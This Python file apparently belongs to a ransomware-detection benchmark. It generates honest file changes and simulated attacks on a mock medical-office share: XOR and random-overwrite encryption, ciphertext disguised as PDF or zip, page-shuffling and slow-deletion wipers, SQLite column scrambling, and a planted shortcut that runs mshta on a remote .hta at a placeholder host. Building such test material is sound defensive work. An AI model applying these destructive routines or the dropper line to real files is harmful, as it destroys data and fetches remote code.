"""Transitions written after the rules were frozen; their generators were not used in tuning.

Run once when they were written; docs/measurements.md has that run. What it showed is not tuned away.
"""

import lzma
import os
import sqlite3
import zipfile
import zlib
from contextlib import closing
from struct import pack

from bench.clean_series.ground import Ground, Story, attack, honest, write

# --- honest


def endoscopy_videos(ground: Ground) -> None:
    """MP4 boxes with a packed stream, as endoscopes record them."""
    for number in range(12):
        kind = b"ftypisom\0\0\2\0isomiso2avc1mp41"
        body = ground.rng.randbytes(180_000)
        boxes = [
            (4 + len(kind), kind),
            (8 + len(body), b"mdat" + body),
            (108, b"moov" + bytes(100)),
        ]
        content = b"".join(pack(">I", size) + box for size, box in boxes)
        write(ground.folder("Imagerie/Endoscopie") / f"video {number}.mp4", content)


def phone_photos(ground: Ground) -> None:
    """HEIC of a telephone: a format that no check here decodes."""
    for number in range(25):
        head = pack(">I", 24) + b"ftypheic\0\0\0\0mif1heic"
        write(
            ground.folder("Photos téléphone") / f"IMG_{number}.HEIC",
            head + ground.rng.randbytes(60_000),
        )


def mails_archived(ground: Ground) -> None:
    """A year of mails as .eml with base64 attachments."""
    import base64

    for number in range(120):
        part = base64.encodebytes(zlib.compress(ground.text(80).encode())).decode()
        write(
            ground.folder("Secrétariat/Mails 2025") / f"{number:04}.eml",
            f"From: labo@exemple.invalid\r\nTo: cabinet@exemple.invalid\r\nSubject: R{number}\r\n"
            f"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n"
            f"{ground.text(5)}\r\n--b\r\nContent-Transfer-Encoding: base64\r\n\r\n{part}--b--\r\n".encode(),
        )


def schema_migrated(ground: Ground) -> None:
    """The medical software is updated: tables get new names, columns are added."""
    with closing(sqlite3.connect(ground.database)) as db:
        names = [n for (n,) in db.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        for name in names:
            if name != "agenda" and not name.startswith("sqlite"):
                db.execute(f'ALTER TABLE "{name}" ADD COLUMN version2 TEXT')
        db.execute("CREATE TABLE migration (n INTEGER)")
        db.executemany("INSERT INTO migration VALUES (?)", [(n,) for n in range(20)])
        db.commit()


def synchronised_conflicts(ground: Ground) -> None:
    """A synchronisation leaves copies beside their originals."""
    for path in ground.some(ground.documents(), 50):
        made = path.with_name(f"{path.stem} (copie en conflit de PC-ACCUEIL){path.suffix}")
        made.write_bytes(path.read_bytes())


def traces_packed(ground: Ground) -> None:
    """Old texts are packed one by one by xz; the plain ones go."""
    for path in ground.some(ground.files(".html"), 20):
        path.with_name(path.name + ".xz").write_bytes(lzma.compress(path.read_bytes()))
        path.unlink()


def spreadsheets(ground: Ground) -> None:
    """Accounts: new xlsx, then each saved again with other numbers."""
    for number in range(20):
        cells = "".join(f"<row><c><v>{ground.rng.random()}</v></c></row>" for _ in range(300))
        into = ground.folder("Comptabilité/Tableaux") / f"compte {number}.xlsx"
        with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as made:
            made.writestr("[Content_Types].xml", "<Types/>")
            made.writestr("xl/workbook.xml", "<workbook/>")
            made.writestr("xl/worksheets/sheet1.xml", f"<worksheet>{cells}</worksheet>")


def pixels_masked(ground: Ground) -> None:
    """Ultrasound pictures with the patient's name blacked out in the pixels, in place."""
    for path in ground.files(".dcm"):
        content = bytearray(path.read_bytes())
        content[-60_000:-50_000] = bytes(10_000)
        write(path, bytes(content))


def sealed_letters(ground: Ground) -> None:
    """Four letters sent by secure mail: S/MIME files beside the originals."""
    for path in ground.some(ground.files(".docx"), 4):
        body = b"0\x82\x4e\x20\x06\x09*\x86H\x86\xf7\x0d\x01\x07\x03" + ground.rng.randbytes(20_000)
        path.with_name(path.name + ".p7m").write_bytes(body)


def folder_left(ground: Ground) -> None:
    """A doctor leaves and takes his patients' folder along: 15 % of the share go."""
    found = sorted(ground.documents())
    for path in found[: len(found) * 15 // 100]:
        path.unlink()


# --- attacks


def xor_one_byte(ground: Ground) -> None:
    """A poor cipher: every byte XOR 0x5A. Nothing looks uniform that did not before."""
    table = bytes(byte ^ 0x5A for byte in range(256))
    for path in ground.documents():
        write(path, path.read_bytes().translate(table))


def wrapped_as_pdf(ground: Ground) -> None:
    """Ciphertext in a PDF that opens: one page, one stream nobody shows."""
    for path in ground.files(".docx", ".pdf", ".odt"):
        stream = os.urandom(path.stat().st_size)
        parts = [
            b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
            b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n",
            b"3 0 obj\n<< /Length %d >>\nstream\n" % len(stream)
            + stream
            + b"\nendstream\nendobj\n",
            b"trailer\n<< /Root 1 0 R /Size 4 >>\n%%EOF\n",
        ]
        path.unlink()
        path.with_suffix(".pdf").write_bytes(b"".join(parts))


def moved_to_one_place(ground: Ground) -> None:
    """Everything encrypted into one folder under numbers, the originals deleted."""
    into = ground.folder("_recuperation")
    for number, path in enumerate(sorted(ground.documents())):
        (into / f"{number:08}").write_bytes(os.urandom(path.stat().st_size + 40))
        path.unlink()


def big_files_only(ground: Ground) -> None:
    """Only what is larger than 60 kB, its middle third."""
    for path in ground.documents():
        size = path.stat().st_size
        if size > 60_000:
            with path.open("r+b") as file:
                file.seek(size // 3)
                file.write(os.urandom(size // 3))


def last_quarter(ground: Ground) -> None:
    """The tail of two pictures and two letters."""
    for ending in (".jpg", ".docx"):
        for path in ground.some(ground.files(ending), 2):
            size = path.stat().st_size
            with path.open("r+b") as file:
                file.seek(size * 3 // 4)
                file.write(os.urandom(size - size * 3 // 4))


def shuffled(ground: Ground) -> None:
    """A wiper that exchanges pages inside each file: all bytes are still there."""
    for path in ground.documents():
        content = path.read_bytes()
        pages = [content[at : at + 512] for at in range(0, len(content), 512)]
        ground.rng.shuffle(pages)
        path.write_bytes(b"".join(pages))


def packed_with_password(ground: Ground) -> None:
    """Each letter into a zip with an encrypted member of its own; the letter goes."""
    for path in ground.files(".docx", ".odt", ".txt"):
        data, name = os.urandom(path.stat().st_size), path.name.encode()
        size = len(data)
        head = pack("<HHHHHIIIHH", 20, 1, 8, 0, 0x5A21, zlib.crc32(data), size, size, len(name), 0)
        local = b"PK\x03\x04" + head + name + data
        entry = b"PK\x01\x02" + pack("<H", 20) + head + pack("<HHHII", 0, 0, 0, 0, 0) + name
        end = b"PK\x05\x06" + pack("<HHHHIIH", 0, 0, 1, 1, len(entry), len(local), 0)
        path.with_name(path.name + ".zip").write_bytes(local + entry + end)
        path.unlink()


def shortcut_planted(ground: Ground) -> None:
    head = b"L\0\0\0\x01\x14\x02\0" + bytes(8) + bytes(60)
    words = "C:\\Windows\\System32\\mshta.exe http://exemple.invalid/a.hta"
    (ground.anywhere() / "Résultats urgents.lnk").write_bytes(head + words.encode("utf-16-le"))


def blobs_of_base(ground: Ground) -> None:
    """The database stays whole, but the text columns of its largest table are encrypted."""
    with closing(sqlite3.connect(ground.database)) as db:
        names = [
            n for (n,) in db.execute("SELECT name FROM sqlite_master WHERE type='table'")
            if not n.startswith("sqlite")
        ]  # fmt: skip
        name = max(names, key=lambda n: db.execute(f'SELECT count(*) FROM "{n}"').fetchone()[0])
        columns = [row[1] for row in db.execute(f'PRAGMA table_info("{name}")') if row[2] == "TEXT"]
        for column in columns:
            db.execute(f'UPDATE "{name}" SET "{column}" = hex(randomblob(40))')
        db.commit()


def slow_deletion(ground: Ground) -> None:
    """Six files a day go: no tidying looks different."""
    for path in ground.some(ground.documents(), 6):
        path.unlink()


STORIES: tuple[Story, ...] = (
    honest("endoscopy videos", "bulk scanning", endoscopy_videos),
    honest("photographs of a telephone (HEIC)", "bulk scanning", phone_photos),
    honest("a year of mails as files", "normal day", mails_archived),
    honest("database migrated by its software", "software update", schema_migrated),
    honest("copies of a synchronisation", "normal day", synchronised_conflicts),
    honest("20 pages packed one by one (xz)", "tidying", traces_packed),
    honest("20 spreadsheets", "normal day", spreadsheets),
    honest("names blacked out in all images", "re-encoding", pixels_masked),
    honest("four S/MIME letters", "normal day", sealed_letters),
    honest("15 % leave with a doctor", "tidying", folder_left),
    attack("XOR with one byte", "complete encryption", xor_one_byte),
    attack("ciphertext wrapped as PDF", "complete encryption", wrapped_as_pdf),
    attack("all into one folder under numbers", "complete encryption", moved_to_one_place),
    attack("middle third of big files", "partial encryption", big_files_only),
    attack("last quarter of four files", "slow encryption", last_quarter),
    attack("pages shuffled", "wiper", shuffled),
    attack("each letter into a locked zip", "partial encryption", packed_with_password),
    attack("a shortcut to mshta", "dropper", shortcut_planted),
    attack("columns of the database encrypted", "partial encryption", blobs_of_base),
    attack("six files deleted a day", "wiper", slow_deletion),
)
